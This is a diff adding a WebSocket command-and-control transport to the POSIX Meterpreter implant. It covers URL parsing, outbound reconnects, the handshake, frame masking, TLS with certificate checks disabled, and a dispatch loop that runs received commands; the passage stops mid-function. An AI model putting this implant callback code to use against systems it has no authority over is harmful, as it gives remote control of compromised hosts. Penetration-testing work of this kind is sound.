@@ -0,0 +1,1174 @@
+/*!
+ * @file server_transport_websocket.c
+ * @brief WebSocket transport for the POSIX meterpreter.
+ * @details The socket is non-blocking. A read that can't complete waits for the
+ *          socket without holding anything, and each SSL call holds a small lock
+ *          for just the duration of the call, so the dispatch thread reading
+ *          and the pipeline writing never hold each other up on the same SSL
+ *          object. Writes are serialised per frame, which keeps the pongs and
+ *          keepalive pings sent by the dispatch thread from landing in the middle
+ *          of a packet.
+ */
+#include "metsrv.h"
+
+#include <netdb.h>
+#include <strings.h>
+#include <openssl/rand.h>
+#include <openssl/sha.h>
+#include <openssl/evp.h>
+
+/*! @brief GUID that the server appends to the handshake key to prove that it understood the upgrade. */
+#define WEBSOCKET_GUID           "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
+/*! @brief Largest handshake response that is accepted. */
+#define WEBSOCKET_MAX_RESPONSE   4096
+/*! @brief Size of the buffer frames are masked in before they are written. */
+#define WEBSOCKET_CHUNK_SIZE     8192
+/*! @brief Number of microseconds a transfer that can't make progress waits before it tries again. */
+#define WEBSOCKET_WAIT_TIME      100000
+
+#define WEBSOCKET_OP_CONTINUATION  0x0
+#define WEBSOCKET_OP_TEXT          0x1
+#define WEBSOCKET_OP_BINARY        0x2
+#define WEBSOCKET_OP_CLOSE         0x8
+#define WEBSOCKET_OP_PING          0x9
+#define WEBSOCKET_OP_PONG          0xA
+
+/*!
+ * @brief Split a \c ws:// or \c wss:// URL into its parts.
+ * @param url The URL to split.
+ * @param secure Receives an indication of whether the URL is a \c wss:// one.
+ * @param authority Buffer that receives the host and port as they appear in the URL, for the Host header.
+ * @param host Buffer that receives the host name, without the brackets of an IPv6 address.
+ * @param port Buffer that receives the port, the scheme's default if the URL doesn't have one.
+ * @param path Buffer that receives the path and query, \c / if the URL doesn't have one.
+ * @return Indication of whether the URL could be split.
+ * @remark Each of the buffers must be as large as the URL.
+ */
+static BOOL websocket_parse_url(const char* url, BOOL* secure, char* authority, char* host, char* port, char* path)
+{
+	const char* start;
+	const char* end;
+	const char* colon = NULL;
+
+	if (strncasecmp(url, "wss://", 6) == 0)
+	{
+		*secure = TRUE;
+		start = url + 6;
+	}
+	else if (strncasecmp(url, "ws://", 5) == 0)
+	{
+		*secure = FALSE;
+		start = url + 5;
+	}
+	else
+	{
+		return FALSE;
+	}
+
+	end = start + strcspn(start, "/?");
+	if (end == start)
+	{
+		return FALSE;
+	}
+
+	memcpy(authority, start, end - start);
+	authority[end - start] = '\0';
+	strcpy(path, *end == '/' ? end : "/");
+	if (*end == '?')
+	{
+		strcat(path, end);
+	}
+
+	if (*start == '[')
+	{
+		// IPv6 addresses are bracketed so that their colons aren't taken for the port
+		const char* close = memchr(start, ']', end - start);
+		if (close == NULL)
+		{
+			return FALSE;
+		}
+
+		memcpy(host, start + 1, close - start - 1);
+		host[close - start - 1] = '\0';
+		colon = close + 1 < end && close[1] == ':' ? close + 1 : NULL;
+	}
+	else
+	{
+		colon = memchr(start, ':', end - start);
+		memcpy(host, start, (colon ? colon : end) - start);
+		host[(colon ? colon : end) - start] = '\0';
+	}
+
+	if (colon && colon + 1 < end)
+	{
+		memcpy(port, colon + 1, end - colon - 1);
+		port[end - colon - 1] = '\0';
+	}
+	else
+	{
+		strcpy(port, *secure ? "443" : "80");
+	}
+
+	return *host != '\0';
+}
+
+/*!
+ * @brief Connect to the WebSocket server, retrying until the transport's retry settings run out.
+ * @param host Name or address of the server.
+ * @param port The server's port.
+ * @param retryTotal The number of seconds to continually retry for.
+ * @param retryWait The number of seconds between each connect attempt.
+ * @param expiry The session expiry time.
+ * @param socketBuffer Receives the connected socket.
+ * @return Indication of success or failure.
+ */
+static DWORD websocket_connect(const char* host, const char* port, DWORD retryTotal, DWORD retryWait, int expiry, SOCKET* socketBuffer)
+{
+	struct addrinfo hints = { 0 };
+	struct addrinfo* addresses;
+	struct addrinfo* address;
+	SOCKET socketHandle;
+	int start = current_unix_timestamp();
+
+	*socketBuffer = 0;
+
+	hints.ai_family = AF_UNSPEC;
+	hints.ai_socktype = SOCK_STREAM;
+	hints.ai_protocol = IPPROTO_TCP;
+
+	do
+	{
+		// the name is resolved on every attempt, it may only resolve once the network is up
+		if (getaddrinfo(host, port, &hints, &addresses) == 0)
+		{
+			for (address = addresses; address != NULL; address = address->ai_next)
+			{
+				socketHandle = socket(address->ai_family, SOCK_STREAM, IPPROTO_TCP);
+				if (socketHandle == INVALID_SOCKET)
+				{
+					continue;
+				}
+
+				if (connect(socketHandle, address->ai_addr, (int)address->ai_addrlen) != SOCKET_ERROR)
+				{
+					dprintf("[WEBSOCKET] connected to %s port %s", host, port);
+					freeaddrinfo(addresses);
+					*socketBuffer = socketHandle;
+					return ERROR_SUCCESS;
+				}
+
+				closesocket(socketHandle);
+			}
+
+			freeaddrinfo(addresses);
+		}
+
+		// has our session expired?
+		if (current_unix_timestamp() >= expiry)
+		{
+			break;
+		}
+
+		dprintf("[WEBSOCKET] Connection failed, sleeping for %u s", retryWait);
+		sleep(retryWait);
+	} while (((DWORD)current_unix_timestamp() - (DWORD)start) < retryTotal);
+
+	return ERROR_NOT_FOUND;
+}
+
+/*!
+ * @brief Wait until the socket is ready, or a short while has passed.
+ * @param ctx Pointer to the WebSocket transport context.
+ * @param write Indication of whether to wait for room to write rather than data to read.
+ * @remark The wait is bounded because SSL may want to read while writing, and the
+ *         data it is after can be consumed by the dispatch thread in the meantime.
+ */
+static VOID websocket_wait(WebSocketTransportContext* ctx, BOOL write)
+{
+	struct timeval tv;
+	fd_set fds;
+
+	FD_ZERO(&fds);
+	FD_SET(ctx->fd, &fds);
+	tv.tv_sec = 0;
+	tv.tv_usec = WEBSOCKET_WAIT_TIME;
+	select((int)ctx->fd + 1, write ? NULL : &fds, write ? &fds : NULL, NULL, &tv);
+}
+
+/*!
+ * @brief Read or write as much of a buffer as the connection takes in one go.
+ * @param ctx Pointer to the WebSocket transport context.
+ * @param buffer Pointer to the data.
+ * @param length Number of bytes in \c buffer.
+ * @param write Indication of whether to write the buffer rather than read into it.
+ * @return Number of bytes transferred, zero or less if the connection failed.
+ */
+static int websocket_transfer(WebSocketTransportContext* ctx, PUCHAR buffer, DWORD length, BOOL write)
+{
+	int result;
+	int error;
+
+	while (1)
+	{
+		if (ctx->ssl)
+		{
+			lock_acquire(ctx->ssl_lock);
+			result = write ? SSL_write(ctx->ssl, buffer, length) : SSL_read(ctx->ssl, buffer, length);
+			error = result > 0 ? SSL_ERROR_NONE : SSL_get_error(ctx->ssl, result);
+			lock_release(ctx->ssl_lock);
+
+			if (error == SSL_ERROR_WANT_READ || error == SSL_ERROR_WANT_WRITE)
+			{
+				websocket_wait(ctx, error == SSL_ERROR_WANT_WRITE);
+				continue;
+			}
+		}
+		else
+		{
+			result = write ? send(ctx->fd, buffer, length, MSG_NOSIGNAL) : recv(ctx->fd, buffer, length, 0);
+
+			if (result < 0 && (errno == EAGAIN || errno == EWOULDBLOCK || errno == EINTR))
+			{
+				websocket_wait(ctx, write);
+				continue;
+			}
+		}
+
+		return result;
+	}
+}
+
+/*!
+ * @brief Read exactly the given number of bytes from the connection.
+ * @param ctx Pointer to the WebSocket transport context.
+ * @param buffer Buffer that receives the data.
+ * @param length Number of bytes to read.
+ * @return Indication of whether all of the bytes were read.
+ */
+static BOOL websocket_read(WebSocketTransportContext* ctx, PUCHAR buffer, DWORD length)
+{
+	DWORD idx = 0;
+	int result;
+
+	while (idx < length)
+	{
+		if ((result = websocket_transfer(ctx, buffer + idx, length - idx, FALSE)) <= 0)
+		{
+			dprintf("[WEBSOCKET] read failed with return %d at index %u of %u", result, idx, length);
+			return FALSE;
+		}
+
+		idx += result;
+	}
+
+	return TRUE;
+}
+
+/*!
+ * @brief Write all of a buffer to the connection.
+ * @param ctx Pointer to the WebSocket transport context.
+ * @param buffer Pointer to the data to write.
+ * @param length Number of bytes to write.
+ * @return Indication of whether all of the bytes were written.
+ */
+static BOOL websocket_write(WebSocketTransportContext* ctx, PUCHAR buffer, DWORD length)
+{
+	DWORD idx = 0;
+	int result;
+
+	while (idx < length)
+	{
+		if ((result = websocket_transfer(ctx, buffer + idx, length - idx, TRUE)) <= 0)
+		{
+			dprintf("[WEBSOCKET] write failed with return %d at index %u of %u", result, idx, length);
+			return FALSE;
+		}
+
+		idx += result;
+	}
+
+	return TRUE;
+}
+
+/*!
+ * @brief Write a single, unfragmented frame.
+ * @param ctx Pointer to the WebSocket transport context.
+ * @param opcode The frame's opcode.
+ * @param prefix Pointer to the first part of the payload, may be \c NULL.
+ * @param prefixLength Number of bytes in \c prefix.
+ * @param data Pointer to the rest of the payload, may be \c NULL.
+ * @param dataLength Number of bytes in \c data.
+ * @return Indication of success or failure.
+ * @remark The payload is given in two parts so that a packet's header and payload
+ *         needn't be copied together first. Frames sent by a client must be masked,
+ *         which is done a chunk at a time, and the frame header goes out with the
+ *         first chunk so that small packets take a single write.
+ */
+static DWORD websocket_write_frame(WebSocketTransportContext* ctx, UCHAR opcode, PUCHAR prefix, DWORD prefixLength, PUCHAR data, DWORD dataLength)
+{
+	UCHAR chunk[WEBSOCKET_CHUNK_SIZE];
+	UCHAR mask[4];
+	DWORD length = prefixLength + dataLength;
+	DWORD offset = 0;
+	DWORD used = 2;
+	DWORD idx;
+	PUCHAR source;
+	BOOL success = TRUE;
+
+	chunk[0] = 0x80 | opcode;
+	if (length < 126)
+	{
+		chunk[1] = 0x80 | (UCHAR)length;
+	}
+	else if (length <= 0xFFFF)
+	{
+		chunk[1] = 0x80 | 126;
+		chunk[used++] = (UCHAR)(length >> 8);
+		chunk[used++] = (UCHAR)length;
+	}
+	else
+	{
+		chunk[1] = 0x80 | 127;
+		for (idx = 0; idx < 4; idx++)
+		{
+			chunk[used++] = 0;
+		}
+		for (idx = 0; idx < 4; idx++)
+		{
+			chunk[used++] = (UCHAR)(length >> (24 - idx * 8));
+		}
+	}
+
+	// a predictable masking key would let whatever sits in between pick the payload's bytes on the wire
+	if (RAND_bytes(mask, sizeof(mask)) != 1)
+	{
+		dprintf("[WEBSOCKET] failed to generate the masking key");
+		return ERROR_WRITE_FAULT;
+	}
+	memcpy(chunk + used, mask, sizeof(mask));
+	used += sizeof(mask);
+
+	lock_acquire(ctx->write_lock);
+
+	do
+	{
+		while (used < sizeof(chunk) && offset < length)
+		{
+			source = offset < prefixLength ? prefix + offset : data + offset - prefixLength;
+			idx = (offset < prefixLength ? prefixLength : length) - offset;
+			if (idx > sizeof(chunk) - used)
+			{
+				idx = sizeof(chunk) - used;
+			}
+
+			for (offset += idx; idx > 0; idx--)
+			{
+				chunk[used++] = *source++ ^ mask[(offset - idx) & 3];
+			}
+		}
+
+		success = websocket_write(ctx, chunk, used);
+		used = 0;
+	} while (success && offset < length);
+
+	lock_release(ctx->write_lock);
+
+	return success ? ERROR_SUCCESS : ERROR_WRITE_FAULT;
+}
+
+/*!
+ * @brief Upgrade the connection to a WebSocket.
+ * @param ctx Pointer to the WebSocket transport context.
+ * @param authority Host and port for the Host header.
+ * @param path Path and query to request.
+ * @return Indication of success or failure.
+ */
+static BOOL websocket_handshake(WebSocketTransportContext* ctx, const char* authority, const char* path)
+{
+	UCHAR nonce[16];
+	UCHAR digest[SHA_DIGEST_LENGTH];
+	char key[32];
+	char accept[32];
+	char response[WEBSOCKET_MAX_RESPONSE];
+	char* request = NULL;
+	char* line;
+	char* value;
+	DWORD length = 0;
+	BOOL accepted = FALSE;
+	SHA_CTX sha;
+	int requestLength;
+
+	if (RAND_bytes(nonce, sizeof(nonce)) != 1)
+	{
+		dprintf("[WEBSOCKET] failed to generate the handshake key");
+		return FALSE;
+	}
+	EVP_EncodeBlock((PUCHAR)key, nonce, sizeof(nonce));
+
+	// the server proves that it speaks the protocol by hashing our key
+	SHA1_Init(&sha);
+	SHA1_Update(&sha, key, strlen(key));
+	SHA1_Update(&sha, WEBSOCKET_GUID, strlen(WEBSOCKET_GUID));
+	SHA1_Final(digest, &sha);
+	EVP_EncodeBlock((PUCHAR)accept, digest, sizeof(digest));
+
+	requestLength = strlen(authority) + strlen(path) + strlen(key) + 256;
+	if ((request = (char*)malloc(requestLength)) == NULL)
+	{
+		return FALSE;
+	}
+
+	requestLength = snprintf(request, requestLength,
+		"GET %s HTTP/1.1\r\n"
+		"Host: %s\r\n"
+		"Upgrade: websocket\r\n"
+		"Connection: Upgrade\r\n"
+		"Sec-WebSocket-Key: %s\r\n"
+		"Sec-WebSocket-Version: 13\r\n"
+		"\r\n", path, authority, key);
+
+	dprintf("[WEBSOCKET] requesting upgrade of %s%s", authority, path);
+	if (!websocket_write(ctx, (PUCHAR)request, requestLength))
+	{
+		free(request);
+		return FALSE;
+	}
+	free(request);
+
+	// the response is read a byte at a time so that none of the frames after it are consumed
+	while (length < 4 || memcmp(response + length - 4, "\r\n\r\n", 4) != 0)
+	{
+		if (length == sizeof(response) - 1 || !websocket_read(ctx, (PUCHAR)response + length, 1))
+		{
+			dprintf("[WEBSOCKET] failed to read the handshake response");
+			return FALSE;
+		}
+		length++;
+	}
+	response[length] = '\0';
+
+	if (strncmp(response, "HTTP/1.", 7) != 0 || strncmp(response + 8, " 101", 4) != 0)
+	{
+		dprintf("[WEBSOCKET] upgrade refused: %.*s", (int)strcspn(response, "\r\n"), response);
+		return FALSE;
+	}
+
+	for (line = strstr(response, "\r\n") + 2; *line != '\r'; line = strstr(line, "\r\n") + 2)
+	{
+		if (strncasecmp(line, "Sec-WebSocket-Accept:", 21) != 0)
+		{
+			continue;
+		}
+
+		for (value = line + 21; *value == ' ' || *value == '\t'; value++)
+		{
+		}
+
+		accepted = strncmp(value, accept, strlen(accept)) == 0
+			&& strchr("\r \t", value[strlen(accept)]) != NULL;
+		break;
+	}
+
+	if (!accepted)
+	{
+		dprintf("[WEBSOCKET] server didn't accept the handshake key");
+	}
+
+	return accepted;
+}
+
+/*!
+ * @brief Negotiate SSL on the connection, for \c wss:// URLs.
+ * @param ctx Pointer to the WebSocket transport context.
+ * @param host Name of the server, for SNI.
+ * @return Indication of success or failure.
+ * @remark Unlike the TCP transport this doesn't pin the connection to TLSv1, the
+ *         HTTP infrastructure the traffic passes through often refuses it.
+ */
+static BOOL websocket_negotiate_ssl(WebSocketTransportContext* ctx, const char* host)
+{
+	int result;
+	int error;
+
+	if ((ctx->ctx = SSL_CTX_new(SSLv23_client_method())) == NULL)
+	{
+		return FALSE;
+	}
+
+	SSL_CTX_set_options(ctx->ctx, SSL_OP_NO_SSLv2 | SSL_OP_NO_SSLv3);
+	if ((ctx->ssl = SSL_new(ctx->ctx)) == NULL)
+	{
+		return FALSE;
+	}
+
+	SSL_set_verify(ctx->ssl, SSL_VERIFY_NONE, NULL);
+	SSL_set_tlsext_host_name(ctx->ssl, host);
+	if (SSL_set_fd(ctx->ssl, ctx->fd) == 0)
+	{
+		dprintf("[WEBSOCKET] set fd failed");
+		return FALSE;
+	}
+
+	while ((result = SSL_connect(ctx->ssl)) != 1)
+	{
+		error = SSL_get_error(ctx->ssl, result);
+		if (error != SSL_ERROR_WANT_READ && error != SSL_ERROR_WANT_WRITE)
+		{
+			dprintf("[WEBSOCKET] SSL connect failed %d", error);
+			return FALSE;
+		}
+
+		websocket_wait(ctx, error == SSL_ERROR_WANT_WRITE);
+	}
+
+	return TRUE;
+}
+
+/*!
+ * @brief Write a frame that was built by the outbound pipeline.
+ * @param remote Pointer to the \c Remote instance.
+ * @param frame The packet's header followed by its (encrypted) payload.
+ * @param frameLength Number of bytes in \c frame.
+ * @return Indication of success or failure.
+ */
+static DWORD packet_write_frame_via_websocket(Remote* remote, PUCHAR frame, DWORD frameLength)
+{
+	WebSocketTransportContext* ctx = (WebSocketTransportContext*)remote->transport->ctx;
+
+	return websocket_write_frame(ctx, WEBSOCKET_OP_BINARY, frame, frameLength, NULL, 0);
+}
+
+/*!
+ * @brief Transmit a packet as a binary WebSocket message _and_ destroy it.
+ * @param remote Pointer to the \c Remote instance.
+ * @param packet Pointer to the \c Packet that is to be sent.
+ * @param completion Pointer to the completion routines to process.
+ * @return An indication of the result of processing the transmission request.
+ */
+static DWORD packet_transmit_via_websocket(Remote* remote, Packet* packet, PacketRequestCompletion* completion)
+{
+	WebSocketTransportContext* ctx = (WebSocketTransportContext*)remote->transport->ctx;
+	PacketPipeline* pipeline;
+	CryptoContext* crypto;
+	Tlv requestId;
+	DWORD res;
+
+	// If the packet does not already have a request identifier, create one for it
+	if (packet_get_tlv_string(packet, TLV_TYPE_REQUEST_ID, &requestId) != ERROR_SUCCESS)
+	{
+		DWORD index;
+		CHAR rid[32];
+
+		rid[sizeof(rid)-1] = 0;
+
+		for (index = 0; index < sizeof(rid)-1; index++)
+		{
+			rid[index] = (rand() % 0x5e) + 0x21;
+		}
+
+		packet_add_tlv_string(packet, TLV_TYPE_REQUEST_ID, rid);
+	}
+
+	// If a completion routine was supplied and the packet has a request
+	// identifier, insert the completion routine into the list
+	if ((completion) &&
+		(packet_get_tlv_string(packet, TLV_TYPE_REQUEST_ID, &requestId) == ERROR_SUCCESS))
+	{
+		packet_add_completion_handler(remote, (LPCSTR)requestId.buffer, completion);
+	}
+
+	recorder_packet(remote, RECORDER_DIRECTION_OUTBOUND, packet);
+
+	// If the endpoint has a cipher established and this is not a plaintext
+	// packet, we encrypt
+	crypto = remote_get_cipher(remote);
+	if ((packet_get_type(packet) == PACKET_TLV_TYPE_PLAIN_REQUEST) ||
+		(packet_get_type(packet) == PACKET_TLV_TYPE_PLAIN_RESPONSE))
+	{
+		crypto = NULL;
+	}
+
+	// The pipeline is detached under the lock when the transport goes down, and
+	// the reference keeps it alive until the packet has been queued
+	lock_acquire(remote->lock);
+	if ((pipeline = ctx->pipeline) != NULL)
+	{
+		pipeline_acquire(pipeline);
+	}
+	lock_release(remote->lock);
+
+	if (pipeline)
+	{
+		res = pipeline_transmit(pipeline, packet, crypto);
+		pipeline_release(pipeline);
+		return res;
+	}
+
+	do
+	{
+		if (crypto)
+		{
+			PUCHAR origPayload = packet->payload;
+
+			if ((res = crypto->handlers.encrypt(crypto, packet->payload,
+				packet->payloadLength, &packet->payload,
+				&packet->payloadLength)) != ERROR_SUCCESS)
+			{
+				break;
+			}
+
+			// Destroy the original payload as we no longer need it
+			free(origPayload);
+
+			// Update the header length
+			packet->header.length = htonl(packet->payloadLength + sizeof(TlvHeader));
+		}
+
+		res = websocket_write_frame(ctx, WEBSOCKET_OP_BINARY, (PUCHAR)&packet->header,
+			sizeof(packet->header), packet->payload, packet->payloadLength);
+	} while (0);
+
+	packet_destroy(packet);
+
+	SetLastError(res);
+	return res;
+}
+
+/*!
+ * @brief Turn a complete binary message into a packet.
+ * @param remote Pointer to the \c Remote instance.
+ * @param packet Receives the packet.
+ * @return Indication of success or failure.
+ * @remark The message buffer is handed over to the packet as its payload.
+ */
+static DWORD websocket_message_to_packet(Remote* remote, Packet** packet)
+{
+	WebSocketTransportContext* ctx = (WebSocketTransportContext*)remote->transport->ctx;
+	CryptoContext* crypto;
+	Packet* localPacket;
+	TlvHeader header;
+	PUCHAR payload = ctx->message;
+	ULONG payloadLength = ctx->message_length;
+	DWORD res;
+
+	ctx->message = NULL;
+	ctx->message_length = 0;
+
+	if (payloadLength < sizeof(TlvHeader))
+	{
+		free(payload);
+		return ERROR_INVALID_DATA;
+	}
+
+	memcpy(&header, payload, sizeof(TlvHeader));
+	if (ntohl(header.length) != payloadLength)
+	{
+		dprintf("[WEBSOCKET] message of %u bytes holds a packet of %u", payloadLength, ntohl(header.length));
+		free(payload);
+		return ERROR_INVALID_DATA;
+	}
+
+	payloadLength -= sizeof(TlvHeader);
+	memmove(payload, payload + sizeof(TlvHeader), payloadLength);
+
+	if ((localPacket = (Packet*)calloc(1, sizeof(Packet))) == NULL)
+	{
+		free(payload);
+		return ERROR_NOT_ENOUGH_MEMORY;
+	}
+
+	localPacket->header.length = header.length;
+	localPacket->header.type = header.type;
+
+	// If the connection has an established cipher and this packet is not
+	// plaintext, decrypt
+	if ((crypto = remote_get_cipher(remote)) &&
+		(packet_get_type(localPacket) != PACKET_TLV_TYPE_PLAIN_REQUEST) &&
+		(packet_get_type(localPacket) != PACKET_TLV_TYPE_PLAIN_RESPONSE))
+	{
+		PUCHAR origPayload = payload;
+
+		if ((res = crypto->handlers.decrypt(crypto, origPayload, payloadLength, &payload, &payloadLength)) != ERROR_SUCCESS)
+		{
+			free(origPayload);
+			free(localPacket);
+			return res;
+		}
+
+		// We no longer need the encrypted payload
+		free(origPayload);
+	}
+
+	localPacket->payload = payload;
+	localPacket->payloadLength = payloadLength;
+
+	recorder_packet(remote, RECORDER_DIRECTION_INBOUND, localPacket);
+
+	*packet = localPacket;
+	return ERROR_SUCCESS;
+}
+
+/*!
+ * @brief Receive the next frame on the connection.
+ * @param remote Pointer to the \c Remote instance.
+ * @param packet Receives the packet if the frame completed one, \c NULL otherwise.
+ * @return Indication of success or failure. Control frames are handled here, and
+ *         a close from the server is reported as a failure so that the transport
+ *         reconnects.
+ */
+static DWORD packet_receive_via_websocket(Remote* remote, Packet** packet)
+{
+	WebSocketTransportContext* ctx = (WebSocketTransportContext*)remote->transport->ctx;
+	UCHAR header[8];
+	UCHAR mask[4];
+	UCHAR control[125];
+	PUCHAR payload;
+	QWORD length;
+	DWORD idx;
+	UCHAR opcode;
+	BOOL fin;
+	BOOL masked;
+
+	*packet = NULL;
+
+	if (!websocket_read(ctx, header, 2))
+	{
+		return ERROR_NOT_FOUND;
+	}
+
+	fin = (header[0] & 0x80) != 0;
+	opcode = header[0] & 0x0F;
+	masked = (header[1] & 0x80) != 0;
+	length = header[1] & 0x7F;
+
+	if (length == 126)
+	{
+		if (!websocket_read(ctx, header, 2))
+		{
+			return ERROR_NOT_FOUND;
+		}
+		length = ((QWORD)header[0] << 8) | header[1];
+	}
+	else if (length == 127)
+	{
+		if (!websocket_read(ctx, header, 8))
+		{
+			return ERROR_NOT_FOUND;
+		}
+		for (length = 0, idx = 0; idx < 8; idx++)
+		{
+			length = (length << 8) | header[idx];
+		}
+	}
+
+	// servers shouldn't mask their frames, but there's no harm in accepting it
+	if (masked && !websocket_read(ctx, mask, sizeof(mask)))
+	{
+		return ERROR_NOT_FOUND;
+	}
+
+	if (opcode & 0x8)
+	{
+		if (!fin || length > sizeof(control))
+		{
+			dprintf("[WEBSOCKET] malformed control frame, opcode %u length %u", opcode, (DWORD)length);
+			return ERROR_INVALID_DATA;
+		}
+		payload = control;
+	}
+	else
+	{
+		if ((opcode == WEBSOCKET_OP_CONTINUATION) != (ctx->message != NULL) || opcode > WEBSOCKET_OP_BINARY)
+		{
+			dprintf("[WEBSOCKET] unexpected data frame, opcode %u", opcode);
+			return ERROR_INVALID_DATA;
+		}
+
+		if (opcode == WEBSOCKET_OP_TEXT)
+		{
+			dprintf("[WEBSOCKET] text messages aren't supported");
+			return ERROR_INVALID_DATA;
+		}
+
+		if (length > WEBSOCKET_MAX_MESSAGE - ctx->message_length)
+		{
+			dprintf("[WEBSOCKET] message is too large");
+			return ERROR_INVALID_DATA;
+		}
+
+		// an empty first fragment still has to leave a message in progress
+		if ((payload = (PUCHAR)realloc(ctx->message, ctx->message_length + (DWORD)length + 1)) == NULL)
+		{
+			return ERROR_NOT_ENOUGH_MEMORY;
+		}
+		ctx->message = payload;
+		payload += ctx->message_length;
+	}
+
+	if (!websocket_read(ctx, payload, (DWORD)length))
+	{
+		return ERROR_NOT_FOUND;
+	}
+
+	if (masked)
+	{
+		for (idx = 0; idx < (DWORD)length; idx++)
+		{
+			payload[idx] ^= mask[idx & 3];
+		}
+	}
+
+	// any traffic at all shows that the connection is alive
+	ctx->last_received = current_unix_timestamp();
+	ctx->ping_sent = 0;
+
+	switch (opcode)
+	{
+	case WEBSOCKET_OP_PING:
+		vdprintf("[WEBSOCKET] answering ping of %u bytes", (DWORD)length);
+		return websocket_write_frame(ctx, WEBSOCKET_OP_PONG, payload, (DWORD)length, NULL, 0);
+	case WEBSOCKET_OP_PONG:
+		return ERROR_SUCCESS;
+	case WEBSOCKET_OP_CLOSE:
+		dprintf("[WEBSOCKET] server closed the connection");
+		websocket_write_frame(ctx, WEBSOCKET_OP_CLOSE, payload, length >= 2 ? 2 : 0, NULL, 0);
+		return ERROR_NOT_FOUND;
+	default:
+		ctx->message_length += (DWORD)length;
+		return fin ? websocket_message_to_packet(remote, packet) : ERROR_SUCCESS;
+	}
+}
+
+/*!
+ * @brief Poll the connection for data to receive.
+ * @param remote Pointer to the remote instance.
+ * @param timeout Amount of time to wait before the poll times out (in microseconds).
+ * @return Greater than zero if there's data, zero on timeout, less than zero on failure.
+ * @remark Data that SSL has already read off the socket doesn't show up in \c select,
+ *         so that is checked for first.
+ */
+static LONG websocket_poll(Remote* remote, long timeout)
+{
+	WebSocketTransportContext* ctx = (WebSocketTransportContext*)remote->transport->ctx;
+	struct timeval tv;
+	fd_set fdread;
+	LONG result;
+
+	if (ctx->ssl)
+	{
+		lock_acquire(ctx->ssl_lock);
+		result = SSL_pending(ctx->ssl);
+		lock_release(ctx->ssl_lock);
+
+		if (result > 0)
+		{
+			return result;
+		}
+	}
+
+	FD_ZERO(&fdread);
+	FD_SET(ctx->fd, &fdread);
+	tv.tv_sec = 0;
+	tv.tv_usec = timeout;
+	result = select((int)ctx->fd + 1, &fdread, NULL, NULL, &tv);
+
+	if (result == -1 && (errno == EINTR || errno == EAGAIN || errno == EWOULDBLOCK))
+	{
+		result = 0;
+	}
+
+	return result;
+}
+
+/*!
+ * @brief Keep an idle connection alive, and notice when it has died.
+ * @param remote Pointer to the remote instance.
+ * @return Indication of whether the connection is still usable.
+ */
+static BOOL websocket_keepalive(Remote* remote)
+{
+	WebSocketTransportContext* ctx = (WebSocketTransportContext*)remote->transport->ctx;
+	int now = current_unix_timestamp();
+
+	if (ctx->ping_sent)
+	{
+		return now - ctx->ping_sent < WEBSOCKET_PONG_TIMEOUT;
+	}
+
+	if (now - ctx->last_received >= WEBSOCKET_PING_INTERVAL)
+	{
+		vdprintf("[WEBSOCKET] connection idle for %d s, sending ping", now - ctx->last_received);
+		ctx->ping_sent = now;
+		return websocket_write_frame(ctx, WEBSOCKET_OP_PING, NULL, 0, NULL, 0) == ERROR_SUCCESS;
+	}
+
+	return TRUE;
+}
+
+/*!
+ * @brief The servers main dispatch loop for incoming requests using WebSockets.
+ * @param remote Pointer to the remote endpoint for this server connection.
+ * @param dispatchThread Pointer to the main dispatch thread.
+ * @returns Indication of success or failure.
+ */
+static BOOL server_dispatch_websocket(Remote* remote, THREAD* dispatchThread)
+{
+	BOOL running = TRUE;
+	LONG result = ERROR_SUCCESS;
+	Packet* packet = NULL;
+
+	dprintf("[DISPATCH] entering server_dispatch_websocket( 0x%08X )", remote);
+
+	// Bring up the scheduler subsystem.
+	result = scheduler_initialize(remote);
+	if (result != ERROR_SUCCESS)
+	{
+		return result;
+	}
+
+	while (running)
+	{
+		if (event_poll(dispatchThread->sigterm, 0))
+		{
+			dprintf("[DISPATCH] server dispatch thread signaled to terminate...");
+			break;
+		}
+
+		result = websocket_poll(remote, 500000);
+		if (result > 0)
+		{
+			result = packet_receive_via_websocket(remote, &packet);
+			if (result != ERROR_SUCCESS)
+			{
+				dprintf("[DISPATCH] packet_receive returned %d, exiting dispatcher...", result);
+				break;
+			}
+
+			if (packet)
+			{
+				remote->transport->comms_last_packet = current_unix_timestamp();
+				running = command_handle(remote, packet);
+				dprintf("[DISPATCH] command_process result: %s", (running ? "continue" : "stop"));
+			}
+		}
+		else if (result < 0)
+		{
+			dprintf("[DISPATCH] websocket_poll returned %d, exiting dispatcher...", result);
+			break;
+		}
+		else if (!websocket_keepalive(remote))
+		{
+			dprintf("[DISPATCH] keepalive failed, exiting dispatcher...");
+			result = ERROR_NOT_FOUND;
+			break;
+		}
+	}
+
+	dprintf("[DISPATCH] calling scheduler_destroy...");
+	scheduler_destroy(remote);
+
+	dprintf("[DISPATCH] calling command_join_threads...");
+	command_join_threads(remote);
+
+	dprintf("[DISPATCH] leaving server_dispatch_websocket.");
+	return result;
+}
+
+/*!
+ * @brief Connect to the server and upgrade the connection to a WebSocket.
+ * @param remote Pointer to the remote instance with the WebSocket transport details wired in.
+ * @param sock The socket FD passed to metsrv, which a WebSocket transport doesn't use.
+ * @return Indication of success or failure.
+ */
+static BOOL configure_websocket_connection(Remote* remote, SOCKET sock)
+{
+	WebSocketTransportContext* ctx = (WebSocketTransportContext*)remote->transport->ctx;
+	Transport* transport = remote->transport;
+	size_t size = strlen(transport->url) + 2;
+	char* buffer = (char*)malloc(size * 4);
+	char* authority = buffer;
+	char* host = buffer + size;
+	char* port = buffer + size * 2;
+	char* path = buffer + size * 3;
+	BOOL success = FALSE;
+
+	transport->start_time = current_unix_timestamp();
+	transport->comms_last_packet = current_unix_timestamp();
+
+	do
+	{
+		if (buffer == NULL || !websocket_parse_url(transport->url, &ctx->secure, authority, host, port, path))
+		{
+			dprintf("[WEBSOCKET] invalid url %s", transport->url);
+			break;
+		}
+
+		if (websocket_connect(host, port, transport->timeouts.retry_total, transport->timeouts.retry_wait,
+			transport->expiration_end, &ctx->fd) != ERROR_SUCCESS)
+		{
+			break;
+		}
+
+		fcntl(ctx->fd, F_SETFD, FD_CLOEXEC);
+		fcntl(ctx->fd, F_SETFL, fcntl(ctx->fd, F_GETFL) | O_NONBLOCK);
+
+		if (ctx->secure)
+		{
+			dprintf("[WEBSOCKET] Initializing SSL...");
+			if (server_initialize_ssl(remote))
+			{
+				dprintf("[WEBSOCKET] SSL failed to initialize");
+				break;
+			}
+
+			if (!websocket_negotiate_ssl(ctx, host))
+			{
+				dprintf("[WEBSOCKET] Failed to negotiate SSL");
+				break;
+			}
+		}
+
+		if (!websocket_handshake(ctx, authority, path))
+		{
